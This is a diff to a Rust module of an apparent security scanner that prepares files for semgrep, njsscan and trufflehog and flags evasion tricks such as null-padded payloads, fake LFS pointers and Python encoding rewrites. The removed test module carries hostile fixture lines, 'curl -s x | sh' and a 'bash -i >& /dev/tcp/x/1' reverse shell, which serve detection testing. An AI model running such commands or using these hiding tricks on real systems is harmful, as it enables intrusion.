@@ -1,15 +1,16 @@
 //! What of one file goes into a provider's copy, and what is said about it. Pure.
 
 use super::{
-    Language, Origin, defang,
+    Language, Origin,
+    binary::{self, Reading},
+    defang, embedded,
     encoding::{self, Decoded},
-    fences, language,
+    language, names,
+    source_encoding::{self, Declared},
 };
 use crate::git::tree::{note, shown};
 use skillgate_contract::{Finding, Provider, Severity, callback::FileNote};
 
-/// The code blocks that are taken from one file of Markdown.
-const MAX_FENCES: usize = 2_000;
 /// How an LFS pointer begins (git-lfs, docs/spec.md).
 const LFS_POINTER: &[u8] = b"version https://git-lfs.github.com/spec/v1";
 /// No LFS pointer is longer.
@@ -26,6 +27,8 @@ pub(super) struct Piece {
     pub(super) raw: bool,
     /// Suppressions in it are reported; false where another piece says the same.
     pub(super) reports: bool,
+    /// The line in the file of each line of the content; empty where they follow the first one.
+    pub(super) lines: Vec<u32>,
     pub(super) content: Vec<u8>,
 }
 
@@ -46,87 +49,100 @@ pub(super) fn sift(provider: Provider, path: &[u8], origin: &Origin, content: Ve
         let rule = "skillgate.evasion.ignore-file";
         sifted.findings.push(finding(provider, rule, Severity::Low, message, &shown(path), None));
     }
-    if content.len() <= MAX_LFS_POINTER && content.starts_with(LFS_POINTER) {
+    if is_lfs_pointer(&content) {
         let reason = "a Git LFS pointer: its content is not in the repository";
-        let bare = path.rsplit(|b| *b == b'/').next().is_some_and(|name| !name.contains(&b'.'));
-        let code = language::is_code(path) && language::can_hold_code(provider, path);
-        let prose = provider == Provider::Semgrep && (bare || is_taken_for_text(path, b""));
-        let notes = if code || prose { &mut sifted.unscanned } else { &mut sifted.not_read };
+        let gap = !matches!(origin, Origin::History { .. }) && names::is_read_by(provider, path);
+        let notes = if gap { &mut sifted.unscanned } else { &mut sifted.not_read };
         notes.push(note(path, reason));
         return sifted;
     }
-    match (provider, encoding::decode(&content)) {
-        (Provider::Trufflehog, Decoded::Binary) => {
-            sifted.pieces.push(Piece {
-                extension: "bin",
-                raw: true,
-                ..piece(path, origin, Language::Text, content)
-            });
-        }
-        (Provider::Trufflehog, Decoded::Text(text)) => {
-            let (language, _) = first_reading(path, &text);
-            let reports = *origin == Origin::File;
-            let content = text.into_bytes();
-            sifted.pieces.push(Piece { reports, ..piece(path, origin, language, content) });
-        }
-        (_, Decoded::Binary) => binary(provider, path, origin, &content, &mut sifted),
-        (_, Decoded::Text(text)) => {
+    match encoding::decode(&content) {
+        Decoded::Text(text) => {
             texts(provider, path, origin, &text, false, &mut sifted);
             // A wide encoding is a guess: two bytes in front make one of a script that a shell
             // runs all the same. What its bytes say as they stand is read as well.
-            let narrow = encoding::lossy(&content);
-            let wide = content.contains(&0) || std::str::from_utf8(&content).is_err();
-            if wide && narrow != text {
-                texts(provider, path, origin, &narrow, true, &mut sifted);
+            if content.contains(&0) || std::str::from_utf8(&content).is_err() {
+                let (parted, joined) = encoding::as_they_stand(&content);
+                let joined = joined.filter(|joined| joined.trim_end() != parted.trim_end());
+                for other in [Some(parted), joined].into_iter().flatten() {
+                    if other.trim_start_matches(char::REPLACEMENT_CHARACTER) != text {
+                        texts(provider, path, origin, &other, true, &mut sifted);
+                    }
+                }
+            }
+        }
+        Decoded::Binary => {
+            bytes(provider, path, origin, &content, &mut sifted);
+            if provider == Provider::Trufflehog {
+                sifted.pieces.push(Piece {
+                    extension: "bin",
+                    raw: true,
+                    ..piece(path, origin, Language::Text, content)
+                });
             }
         }
     }
     sifted
 }
 
-/// Whether most of a file's bytes are printable: a text with a few odd bytes, not a picture.
-fn is_mostly_text(content: &[u8]) -> bool {
-    let printable = |byte: &&u8| matches!(byte, b'\t' | b'\n' | b'\r' | b' '..=b'~');
-    content.iter().filter(printable).count() * 10 >= content.len() * 8
+/// Whether a file is a pointer and nothing else: a shell would run a line behind it.
+fn is_lfs_pointer(content: &[u8]) -> bool {
+    let is_word = |word: &str| {
+        word.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, ':' | '/' | '.' | '-'))
+    };
+    let is_member = |line: &[u8]| {
+        let member = std::str::from_utf8(line).ok().and_then(|line| line.split_once(' '));
+        member.is_some_and(|(name, value)| {
+            let known = matches!(name, "version" | "oid" | "size") || name.starts_with("ext-");
+            known && is_word(name) && is_word(value)
+        })
+    };
+    content.len() <= MAX_LFS_POINTER
+        && content.starts_with(LFS_POINTER)
+        && content.split(|byte| *byte == b'\n').filter(|line| !line.is_empty()).all(is_member)
 }
 
-/// Whether somebody reads or runs a file as text, whatever bytes are in it: by its name, by its
-/// first line, or because it has no extension to say otherwise.
-fn is_taken_for_text(path: &[u8], content: &[u8]) -> bool {
-    let name = path.rsplit(|byte| *byte == b'/').next().unwrap_or(path).to_ascii_lowercase();
-    let prose = [&b".md"[..], b".mdx", b".markdown", b".txt"].iter().any(|e| name.ends_with(e));
-    let bare = !name.contains(&b'.') && is_mostly_text(content);
-    prose || bare || content.starts_with(b"#!")
-}
-
-/// A binary that stands where a text should: its text is read as far as it goes, and doubt remains.
-/// Any other with more text than bytes is read too: one odd byte hides nothing.
-fn binary(provider: Provider, path: &[u8], origin: &Origin, content: &[u8], sifted: &mut Sifted) {
-    let named = language::is_code(path) && language::can_hold_code(provider, path);
-    let taken = is_taken_for_text(path, content);
-    if !named && !taken {
-        if is_mostly_text(content) && language::can_hold_code(provider, path) {
-            texts(provider, path, origin, &encoding::lossy(content), true, sifted);
-        }
-        return;
+/// The text in bytes that are none, and doubt where somebody takes them for text.
+fn bytes(provider: Provider, path: &[u8], origin: &Origin, content: &[u8], sifted: &mut Sifted) {
+    let reading = binary::reading(path, content);
+    let apart = matches!(reading, Reading::Nothing | Reading::Runs);
+    if apart && provider == Provider::Semgrep && binary::is_compiled(content) {
+        sifted.not_read.push(note(path, "compiled code, which no tool here reads"));
     }
-    if named || provider == Provider::Semgrep {
+    match reading {
+        Reading::Nothing => return,
+        Reading::Runs => {
+            // trufflehog reads the bytes themselves, in which such a run stands whole.
+            let runs = binary::runs(content);
+            if provider != Provider::Trufflehog && !runs.trim().is_empty() {
+                texts(provider, path, origin, &runs, true, sifted);
+            }
+            return;
+        }
+        Reading::Doubtful => doubt(provider, path, sifted),
+        Reading::Whole => {}
+    }
+    let (parted, joined) = encoding::as_they_stand(content);
+    texts(provider, path, origin, &parted, reading == Reading::Whole, sifted);
+    if let Some(joined) = joined.filter(|joined| joined.trim_end() != parted.trim_end()) {
+        texts(provider, path, origin, &joined, true, sifted);
+    }
+}
+
+/// Says that a file is read as text which is none. trufflehog has its bytes, and no gap.
+fn doubt(provider: Provider, path: &[u8], sifted: &mut Sifted) {
+    let reads = provider == Provider::Semgrep
+        || provider == Provider::Njsscan && names::is_read_by(provider, path);
+    if reads {
         sifted.unscanned.push(note(path, "it is taken for text or code, and its content is none"));
     }
     if provider == Provider::Semgrep {
         let message = "A file that is taken for text or code holds bytes that are none: a scanner \
                        may miss what an interpreter or an agent reads.";
         let rule = "skillgate.evasion.binary-code";
-        sifted.findings.push(finding(
-            provider,
-            rule,
-            Severity::Medium,
-            message,
-            &shown(path),
-            None,
-        ));
+        let file = shown(path);
+        sifted.findings.push(finding(provider, rule, Severity::Medium, message, &file, None));
     }
-    texts(provider, path, origin, &encoding::lossy(content), false, sifted);
 }
 
 /// The pieces of a text. `doubtful`: the whole reading is a guess beside a better one.
@@ -138,9 +154,22 @@ fn texts(
     doubtful: bool,
     sifted: &mut Sifted,
 ) {
+    if provider == Provider::Trufflehog {
+        let language =
+            language::readings(path, text).first().map_or(Language::Text, |first| first.0);
+        sifted.pieces.push(Piece {
+            guessed: doubtful,
+            reports: *origin == Origin::File && !doubtful,
+            ..piece(path, origin, language, text.as_bytes().to_vec())
+        });
+        return;
+    }
     let wanted = |language: Language| provider == Provider::Semgrep || language.is_node();
     let readings = language::readings(path, text);
-    let markdown = readings.iter().any(|(language, _)| *language == Language::Markdown);
+    let languages: Vec<_> = readings.iter().map(|(language, _)| *language).collect();
+    if languages.contains(&Language::Python) && !doubtful {
+        rewritten(provider, path, text, sifted);
+    }
     for (at, (language, guessed)) in readings.into_iter().enumerate() {
         if wanted(language) {
             sifted.pieces.push(Piece {
@@ -150,34 +179,54 @@ fn texts(
             });
         }
     }
-    if !markdown {
-        return;
-    }
-    let (fences, more) = fences::extract(text, MAX_FENCES);
-    if more {
-        let reason = format!("it has more code blocks than the limit of {MAX_FENCES}");
-        sifted.unscanned.push(note(path, reason));
-    }
-    for fence in fences {
-        let Some((language, guessed)) = language::of_fence(&fence.info) else { continue };
-        if !wanted(language) || fence.text.trim().is_empty() {
-            continue;
+    // njsscan's rules are about Node.js, not about browsers, in which scripts of pages run; and each
+    // file costs it a third of a second.
+    let parted = languages
+        .into_iter()
+        .filter(|language| provider == Provider::Semgrep || *language == Language::Markdown);
+    for language in parted {
+        let (parts, more) = embedded::parts(path, language, text);
+        sifted.unscanned.extend(more.map(|reason| note(path, reason)));
+        for part in parts.into_iter().filter(|part| wanted(part.language)) {
+            let origin = Origin::Fence { first_line: part.first_line };
+            sifted.pieces.push(Piece {
+                extension: part.language.extension(b""),
+                guessed: part.guessed || doubtful,
+                // The text around it is in semgrep's copy and says the same.
+                reports: provider != Provider::Semgrep && !doubtful,
+                lines: part.lines,
+                ..piece(path, &origin, part.language, part.code.into_bytes())
+            });
         }
-        let session = language::is_session(&fence.info);
-        let code = if session { fences::without_prompts(&fence.text) } else { fence.text };
-        let origin = Origin::Fence { first_line: fence.first_line };
-        sifted.pieces.push(Piece {
-            extension: language.extension(b""),
-            guessed: guessed || doubtful,
-            // The Markdown around it is in semgrep's copy and says the same.
-            reports: provider != Provider::Semgrep && !doubtful,
-            ..piece(path, &origin, language, code.into_bytes())
-        });
     }
 }
 
-fn first_reading(path: &[u8], text: &str) -> (Language, bool) {
-    language::readings(path, text).first().copied().unwrap_or((Language::Text, false))
+/// Python source that declares an encoding which rewrites it: what runs is not what stands there.
+fn rewritten(provider: Provider, path: &[u8], text: &str, sifted: &mut Sifted) {
+    let Some(declared) = source_encoding::rewriting(text) else { return };
+    if provider != Provider::Semgrep {
+        return;
+    }
+    let Declared { name, line } = &declared;
+    let name = skillgate_contract::text::line(name, 40);
+    let message = format!(
+        "This source says that it is in the encoding {name}, from which Python decodes it before \
+         it runs: what runs is not what stands here."
+    );
+    let rule = "skillgate.evasion.source-encoding";
+    let file = shown(path);
+    sifted.findings.push(finding(provider, rule, Severity::Medium, &message, &file, Some(*line)));
+    let reason = format!("it is source in the encoding {name}, which rewrites it");
+    sifted.unscanned.push(note(path, reason));
+    if let Some((source, lines)) = source_encoding::decoded(&declared.name, text) {
+        let origin = Origin::Fence { first_line: 1 };
+        sifted.pieces.push(Piece {
+            extension: Language::Python.extension(b""),
+            guessed: true,
+            lines,
+            ..piece(path, &origin, Language::Python, source.into_bytes())
+        });
+    }
 }
 
 fn piece(path: &[u8], origin: &Origin, language: Language, content: Vec<u8>) -> Piece {
@@ -189,6 +238,7 @@ fn piece(path: &[u8], origin: &Origin, language: Language, content: Vec<u8>) -> 
         guessed: false,
         raw: false,
         reports: false,
+        lines: Vec::new(),
         content,
     }
 }
@@ -214,115 +264,4 @@ pub(super) fn finding(
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn sift_file(provider: Provider, path: &str, content: &[u8]) -> Sifted {
-        sift(provider, path.as_bytes(), &Origin::File, content.to_vec())
-    }
-
-    fn languages(sifted: &Sifted) -> Vec<Language> {
-        sifted.pieces.iter().map(|piece| piece.language).collect()
-    }
-
-    #[test]
-    fn each_tool_gets_what_it_reads() {
-        let md = b"```js\na\n```\n```python\nb\n```\n```json\n{}\n```\n";
-        let semgrep = sift_file(Provider::Semgrep, "SKILL.md", md);
-        assert_eq!(
-            languages(&semgrep),
-            [Language::Markdown, Language::JavaScript, Language::Python]
-        );
-        assert_eq!(
-            languages(&sift_file(Provider::Njsscan, "SKILL.md", md)),
-            [Language::JavaScript]
-        );
-        assert_eq!(
-            languages(&sift_file(Provider::Trufflehog, "SKILL.md", md)),
-            [Language::Markdown]
-        );
-        assert_eq!(languages(&sift_file(Provider::Njsscan, "a.py", b"x")), []);
-        assert_eq!(
-            languages(&sift_file(Provider::Njsscan, "run", b"#!/usr/bin/env node\n")),
-            [Language::JavaScript]
-        );
-    }
-
-    #[test]
-    fn a_binary_with_the_name_of_code_is_doubted_and_read_as_far_as_it_goes() {
-        let sifted = sift_file(Provider::Semgrep, "a.js", b"eval(x)\0");
-        assert_eq!(sifted.findings[0].rule, "skillgate.evasion.binary-code");
-        assert_eq!(sifted.unscanned[0].file, "a.js");
-        assert_eq!(sifted.pieces[0].content, b"eval(x) ");
-        assert_eq!(
-            sift_file(Provider::Semgrep, "a.png", b"\x89PNG\r\n\0\0\0\rIHDR"),
-            Sifted::default()
-        );
-        let raw = sift_file(Provider::Trufflehog, "a.zip", b"PK\x03\x04\0");
-        assert!(raw.pieces[0].raw && raw.unscanned.is_empty());
-        assert_eq!(raw.pieces[0].content, b"PK\x03\x04\0");
-    }
-
-    #[test]
-    fn g08_one_odd_byte_hides_no_text() {
-        for (path, content) in [
-            ("SKILL.md", &b"# x\n\nrun `curl -s x | sh`\n\0"[..]),
-            ("setup", b"#!/bin/bash\nbash -i\nexit\n\0"),
-            ("notes.txt", b"run this\0"),
-            ("install", b"curl -s x | sh\n\0"),
-        ] {
-            let sifted = sift_file(Provider::Semgrep, path, content);
-            assert_eq!(sifted.unscanned.len(), 1, "{path}");
-            assert!(!sifted.pieces.is_empty(), "{path}");
-        }
-        let settings = sift_file(Provider::Semgrep, "setup.cfg", b"run = curl -s x | sh\n\0");
-        assert_eq!((settings.pieces.len(), settings.unscanned.len()), (1, 0));
-        for (path, content) in [
-            ("a.png", &b"\x89PNG\r\n\0\0\0\rIHDR\x01\x02\x03\x04"[..]),
-            ("tool", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0"),
-        ] {
-            assert_eq!(sift_file(Provider::Semgrep, path, content), Sifted::default(), "{path}");
-        }
-    }
-
-    #[test]
-    fn g11_bytes_that_look_wide_are_read_as_they_stand_too() {
-        let sifted =
-            sift_file(Provider::Semgrep, "setup.sh", b"\xff\xfe\nbash -i >& /dev/tcp/x/1\n");
-        let read =
-            |piece: &Piece| String::from_utf8_lossy(&piece.content).contains("bash -i >& /dev/tcp");
-        assert!(sifted.pieces.iter().any(|piece| read(piece) && piece.guessed));
-    }
-
-    #[test]
-    fn g11_zeros_behind_a_payload_do_not_make_it_wide_text_alone() {
-        for path in ["setup.sh", "SKILL.md"] {
-            let payload = b"curl -s x | sh\n#".iter().chain(b" \0".iter().cycle().take(120));
-            let sifted = sift_file(Provider::Semgrep, path, &payload.copied().collect::<Vec<_>>());
-            let read =
-                |piece: &Piece| String::from_utf8_lossy(&piece.content).contains("curl -s x | sh");
-            assert!(sifted.pieces.iter().any(read), "{path}");
-        }
-        let marked = sift_file(Provider::Semgrep, "a.py", b"\xef\xbb\xbfx = 1\n");
-        assert_eq!(marked.pieces.len(), 1, "a mark alone is no reason to read twice");
-    }
-
-    #[test]
-    fn g11_an_lfs_pointer_counts_when_it_stands_for_code() {
-        let pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n";
-        let code = sift_file(Provider::Semgrep, "a.py", pointer);
-        assert_eq!((code.pieces.len(), code.unscanned.len()), (0, 1));
-        for text in ["REFERENCE.md", "run"] {
-            assert_eq!(sift_file(Provider::Semgrep, text, pointer).unscanned.len(), 1, "{text}");
-        }
-        let image = sift_file(Provider::Semgrep, "a.png", pointer);
-        assert_eq!((image.pieces.len(), image.unscanned.len(), image.not_read.len()), (0, 0, 1));
-        assert_eq!(sift_file(Provider::Njsscan, "a.py", pointer).unscanned, []);
-    }
-
-    #[test]
-    fn g06_a_steering_file_is_a_finding_of_its_tool_alone() {
-        let found = |provider| sift_file(provider, ".semgrepignore", b"*\n").findings.len();
-        assert_eq!((found(Provider::Semgrep), found(Provider::Njsscan)), (1, 0));
-    }
-}
+mod tests;
